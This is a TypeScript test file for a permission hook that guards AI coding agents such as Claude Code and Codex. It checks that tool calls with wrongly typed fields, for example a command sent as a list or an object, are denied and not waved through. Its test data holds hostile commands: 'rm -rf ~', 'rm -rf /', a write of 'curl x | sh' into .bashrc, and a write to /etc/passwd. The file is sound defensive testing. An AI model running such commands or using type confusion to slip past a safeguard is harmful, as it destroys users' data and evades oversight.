// A field the adapters read that is not text (a `command` sent as a list, an object or a number, a
// `file_path` as a list) is a payload problem: the fail mode decides, in every host's shape and through
// both hooks. Before, a non-string command read as an empty command, and an empty command was allowed.
import { describe, expect, it } from "vitest";
import { claudeCode } from "../../src/hosts/claude-code/index.js";
import { codex } from "../../src/hosts/codex/index.js";
import { describeLibraryTool } from "../../src/hosts/library/tools.js";
import { claudePayload, codexPayload, CWD } from "../support/calls.js";
import { HOOK_IMPLS, nativeHookAvailable, runHook, tempHome } from "../support/hook-process.js";

const impls = HOOK_IMPLS.filter((impl) => impl === "node" || nativeHookAvailable());

const ATTACKS: [string, "claude" | "codex", string, Record<string, unknown>, RegExp][] = [
  ["a command as a list", "claude", "Bash", { command: ["rm", "-rf", "~"] }, /Bash call's command is a list/],
  [
    "a command as an object",
    "claude",
    "Bash",
    { command: { toString: "rm -rf ~" } },
    /Bash call's command is an object/,
  ],
  ["a command as a number", "codex", "Bash", { command: 42 }, /Bash call's command is a number/],
  ["a command as a list", "codex", "Bash", { command: ["bash", "-c", "rm -rf ~"] }, /command is a list/],
  ["no command at all", "claude", "Bash", { description: "cleanup" }, /Bash call has no command/],
  [
    "a patch as an object",
    "codex",
    "apply_patch",
    { command: { patch: "*** Begin Patch" } },
    /apply_patch call's command/,
  ],
  [
    "a file path as a list",
    "claude",
    "Write",
    { file_path: ["/home/dev/.bashrc"], content: "curl x | sh" },
    /Write call's file_path is a list/,
  ],
  [
    "content as an object",
    "claude",
    "Write",
    { file_path: `${CWD}/a.txt`, content: { text: "x" } },
    /Write call's content is an object/,
  ],
  [
    "an edit's new text as a list",
    "claude",
    "MultiEdit",
    { file_path: `${CWD}/a.txt`, edits: [{ old_string: "a", new_string: ["b"] }] },
    /edits\[0\]'s new_string is a list/,
  ],
];

describe("wrongly typed fields are payload problems (the fail mode decides)", () => {
  it.each(impls.flatMap((impl) => ATTACKS.map((a) => [impl, ...a] as const)))(
    "%s hook: %s (%s %s)",
    async (impl, _, host, tool, input, problem) => {
      const payload = (host === "claude" ? claudePayload : codexPayload)(tool, input);
      const closed = await runHook(payload, { impl, env: { STASO_HOME: tempHome(), HOME: "/home/dev" } });
      expect(closed.code).toBe(0);
      expect(closed.json?.hookSpecificOutput?.permissionDecision, closed.stdout + closed.stderr).toBe("deny");
      expect(closed.json.hookSpecificOutput.permissionDecisionReason).toMatch(/could not check this call safely/);
      expect(closed.json.hookSpecificOutput.permissionDecisionReason).toMatch(problem);
      const open = await runHook(payload, {
        impl,
        env: { STASO_HOME: tempHome(), HOME: "/home/dev", STASO_FAIL_MODE: "open" },
      });
      // Open: allowed, unless a rule blocks it on what could be read; never silently.
      if (open.stdout === "") expect(open.stderr).toMatch(problem);
    },
  );

  it("the adapters report it without a hook process too (Claude, Codex, the library)", () => {
    const claude = claudeCode.parse(claudePayload("Bash", { command: ["rm", "-rf", "/"] }))!;
    expect(claude.problems).toEqual(["The Bash call's command is a list, not text."]);
    const cx = codex.parse(codexPayload("Bash", { command: { a: 1 } }))!;
    expect(cx.problems).toEqual(["The Bash call's command is an object, not text."]);
    expect(describeLibraryTool("run_command", { command: ["rm", { x: 1 }] }, CWD).problems).toEqual([
      "The run_command call's command is a list holding something other than text, not text.",
    ]);
    expect(describeLibraryTool("write_file", { path: ["/etc/passwd"], content: "x" }, CWD).problems).toEqual([
      "The write_file call's path is a list, not text.",
    ]);
  });
});

describe("everyday calls with the usual field types are not problems", () => {
  it.each([
    ["claude", "Bash", { command: "npm test", description: "run tests", timeout: 60000, run_in_background: false }],
    ["claude", "Edit", { file_path: `${CWD}/a.ts`, old_string: "a", new_string: "b", replace_all: false }],
    ["claude", "Read", { file_path: `${CWD}/a.ts`, offset: 10, limit: 20 }],
    ["claude", "Grep", { pattern: "TODO", path: CWD, "-i": true, head_limit: 5, output_mode: "content" }],
    ["codex", "Bash", { command: "ls -la" }],
  ] as const)("%s %s", async (host, tool, input) => {
    const parsed = (host === "claude" ? claudeCode : codex).parse(
      (host === "claude" ? claudePayload : codexPayload)(tool, input),
    )!;
    expect(parsed.problems).toEqual([]);
    expect(describeLibraryTool("run_command", { command: ["git", "status"] }, CWD).shell?.command).toBe("git status");
  });
});
